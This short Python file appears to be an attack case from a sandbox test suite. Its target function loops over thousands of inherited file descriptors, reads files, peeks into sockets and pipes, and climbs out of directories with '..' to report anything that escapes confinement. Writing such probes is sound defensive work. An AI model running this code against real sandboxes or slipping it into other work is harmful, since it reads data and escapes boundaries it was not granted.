"""Try every descriptor that the process may have inherited: read files, list folders, peek into sockets, climb out by ".."."""

ATTACK = {"stopped_by": ["values"]}
import fcntl
import os
import socket
import stat


def content_of(number):
    """Return what can be had from a descriptor."""
    mode = os.fstat(number).st_mode
    if stat.S_ISDIR(mode):
        above = os.open("../../../../..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=number)
        return " ".join(os.listdir(number) + os.listdir(above)).encode()
    if stat.S_ISSOCK(mode):
        return socket.socket(fileno=os.dup(number)).recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    if stat.S_ISREG(mode):
        return os.pread(number, 1 << 20, 0)
    # Devices and the read ends of pipes, without waiting for more.
    fcntl.fcntl(number, fcntl.F_SETFL, fcntl.fcntl(number, fcntl.F_GETFL) | os.O_NONBLOCK)
    return os.read(number, 1 << 16)


def target(x):
    found = {}
    for number in range(4096):
        try:
            found[number] = content_of(number)
        except OSError:
            continue
    told = {number: content[:60] for number, content in found.items() if content}
    if told:
        print("ESCAPED: read from inherited descriptors", told)
    raise LookupError(f"nothing in the descriptors {list(found)}")
